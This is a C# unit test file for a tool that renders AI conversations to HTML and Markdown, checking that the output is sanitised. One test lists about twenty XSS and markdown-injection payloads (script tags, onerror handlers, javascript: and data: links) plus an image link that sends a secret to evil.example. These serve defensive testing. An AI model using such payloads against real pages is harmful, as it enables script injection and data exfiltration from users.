using System.Text.RegularExpressions;
using BedrockPS.Conversations;
using BedrockPS.Markup;

namespace BedrockPS.Tests.Conversations;

/// <summary>Pages for people; what models and users wrote in them is text, whatever it looks like.</summary>
public sealed partial class PageTests : IDisposable
{
    private readonly TemporaryConversation _file = new();

    public void Dispose() => _file.Dispose();

    [Theory]
    [InlineData("<script>alert(1)</script>")]
    [InlineData("<img src=x onerror=alert(1)>")]
    [InlineData("text\n\n<iframe src=\"https://evil.example\"></iframe>")]
    [InlineData("[x](javascript:alert(1))")]
    [InlineData("[x](JaVaScRiPt:alert(1))")]
    [InlineData("[x](java\tscript:alert(1))")]
    [InlineData("[x](&#106;avascript:alert(1))")]
    [InlineData("[x](data:text/html;base64,PHNjcmlwdD4=)")]
    [InlineData("[x](vbscript:x)\n\n[y]\n\n[y]: javascript:alert(1)")]
    [InlineData("[x](file:///etc/passwd) [y](//evil.example/x) [z](/etc)")]
    [InlineData("<javascript:alert(1)>")]
    [InlineData("![secret](https://evil.example/?d=secret)")]
    [InlineData("![x][i]\n\n[i]: https://evil.example/p.png \"onload=alert(1)\"")]
    [InlineData("[![x](https://evil.example/p.png)](https://example.org)")]
    [InlineData("# h {onclick=alert(1)}\n\n*x*{style=position:fixed}")]
    [InlineData("```html\" onmouseover=\"alert(1)\n<script>\n```")]
    [InlineData("|a|\n|-|\n|<script>alert(1)</script>|")]
    [InlineData("- [ ] <form action=x>\n- [x] y")]
    [InlineData("[x](https://example.org \"\\\" onmouseover=\\\"alert(1)\")")]
    [InlineData("</style></div></body><script>")]
    public void WhatAModelWritesCanDoNothing(string text)
    {
        Conversation conversation = new() { ModelId = "<m onload=x>", Title = text, System = text, Summary = text };
        TemporaryConversation.Ask(conversation, text, text);
        conversation.Messages[1].Content.Add(new ReasoningBlock { Text = text });
        conversation.Messages[1].Content.Add(new ToolUseBlock { Name = text, Input = text });
        conversation.Messages[1].Content.Add(new ToolResultBlock { Content = [text] });
        conversation.Messages[1].Content.Add(new OtherBlock(text, text));
        conversation.Messages[0].Content.Add(new ImageBlock
        {
            Format = "svg+xml\" onload=\"x", Source = new MediaSource { Bytes = [1] },
        });
        conversation.Messages[0].Content.Add(new DocumentBlock
        {
            Name = text, Format = "txt", Source = new MediaSource { Text = text },
        });

        string page = new HtmlPage(conversation, new MarkdownMarkup()).ToString();

        MatchCollection tags = Tags().Matches(page);
        Assert.Equal(page.Count(c => c == '<'), tags.Count);
        Assert.All(tags, tag => Assert.Contains(tag.Groups["name"].Value.ToLowerInvariant(), Allowed));
        foreach (Match attribute in tags.SelectMany(tag => Attributes().Matches(tag.Groups["attributes"].Value)))
        {
            string name = attribute.Groups["name"].Value;
            Assert.Contains(name, AllowedAttributes);
            Assert.True(name != "href" || IsHarmless(attribute.Groups["value"].Value), attribute.Value);
        }

        Assert.DoesNotContain("<img", page, StringComparison.OrdinalIgnoreCase);
    }

    [Fact]
    public void MarkdownOfAModelIsShownAsSuchAndThatOfAUserAsItIs()
    {
        Conversation conversation = new();
        string answer = "# Heading\n\n|a|b|\n|-|-|\n|1|2|\n\n```ps1\n$x\n```\n\nhttps://example.org";
        TemporaryConversation.Ask(conversation, "# not a heading", answer);
        string page = new HtmlPage(conversation, new MarkdownMarkup()).ToString();

        Assert.Contains("<div class=\"plain\" dir=\"auto\"># not a heading</div>", page, StringComparison.Ordinal);
        Assert.Contains("<h1>Heading</h1>", page, StringComparison.Ordinal);
        Assert.Contains("<table>", page, StringComparison.Ordinal);
        Assert.Contains("<code class=\"language-ps1\">$x", page, StringComparison.Ordinal);
        Assert.Contains("<a href=\"https://example.org\">", page, StringComparison.Ordinal);
    }

    [Fact]
    public void PicturesAreInThePageAndToolsAreFolded()
    {
        Conversation conversation = new();
        ToolUseBlock call = new()
        {
            ToolUseId = "1", Name = "get-x", Input = new Dictionary<string, object?> { ["name"] = "sshd" },
        };
        ToolResultBlock result = new()
        {
            ToolUseId = "1", Status = "error", Content = [new Dictionary<string, object?> { ["text"] = "not found" }],
        };
        ImageBlock image = new() { Format = "png", Source = new MediaSource { Bytes = Samples.Png() } };
        conversation.Messages.Add(new Message(MessageRole.User, [image, new TextBlock { Text = "q" }]));
        conversation.Messages.Add(new Message(MessageRole.Assistant, [call]));
        conversation.Messages.Add(new Message(MessageRole.User, [result]));
        conversation.Messages.Add(new Message(MessageRole.Assistant, "a"));
        string page = new HtmlPage(conversation, new MarkdownMarkup()).ToString();

        Assert.Contains("src=\"data:image/png;base64,", page, StringComparison.Ordinal);
        Assert.Contains("<summary>Tool call: get-x</summary>", page, StringComparison.Ordinal);
        Assert.Contains("Tool result (error)</summary><pre><code>not found</code>", page, StringComparison.Ordinal);
        Assert.Contains("<h2>Tools</h2>", page, StringComparison.Ordinal);
    }

    [Fact]
    public void WhatIsNestedTooDeepIsShownAsItIs() => Assert.StartsWith(
        "<pre>&gt;&gt;", new MarkdownMarkup().ToHtml(new string('>', 20_000) + " x"), StringComparison.Ordinal);

    [Fact]
    public void MarkdownKeepsItsShapeWhateverIsInIt()
    {
        Conversation conversation = new() { Title = "t" };
        ToolUseBlock call = new() { Name = "<b>", Input = "```\n</details>\n````" };
        ImageBlock image = new() { Format = "png", Source = new MediaSource { Bytes = Samples.Png() } };
        conversation.Messages.Add(new Message(MessageRole.User, [image]));
        TextBlock cut = new() { Text = "```ps1\ncut off" };
        conversation.Messages.Add(new Message(MessageRole.Assistant, [call, cut]));
        conversation.Messages.Add(new Message(MessageRole.User, "next"));
        string page = new MarkdownPage(conversation, _file.Path).ToString();

        string folded = "<summary>Tool call: &lt;b&gt;</summary>\n\n`````json\n```\n</details>\n````\n`````\n";
        Assert.Contains(folded, page, StringComparison.Ordinal);
        Assert.Contains("```ps1\ncut off\n```\n\n## User\n\nnext\n", page, StringComparison.Ordinal);
        string picture = Assert.Single(Directory.GetFiles(_file.MediaFolder));
        Assert.Contains($"](<chat.jsonl.media/{Path.GetFileName(picture)}>)", page, StringComparison.Ordinal);
    }

    private static readonly HashSet<string> Allowed =
    [
        "!doctype", "html", "head", "meta", "title", "style", "body", "header", "main", "section", "footer", "h1", "h2",
        "h3", "p", "div", "details", "summary", "pre", "code", "a", "em", "strong", "del", "ul", "ol", "li", "input", "table",
        "thead", "tbody", "tr", "th", "td", "dl", "dt", "dd", "br", "hr", "blockquote", "sub", "sup", "ins", "mark",
    ];

    private static readonly HashSet<string> AllowedAttributes =
    [
        "html", "lang", "charset", "http-equiv", "content", "name", "class", "dir", "href", "title", "type", "disabled",
        "checked", "style",
    ];

    private static bool IsHarmless(string address) =>
        address.StartsWith("https://", StringComparison.Ordinal);

    [GeneratedRegex("""</?(?<name>[^\s>/]+)(?<attributes>(\s+[^\s=>"/]+(="[^"]*")?)*)\s*/?>""")]
    private static partial Regex Tags();

    [GeneratedRegex("""(?<name>[^\s=>"]+)(="(?<value>[^"]*)")?""")]
    private static partial Regex Attributes();
}
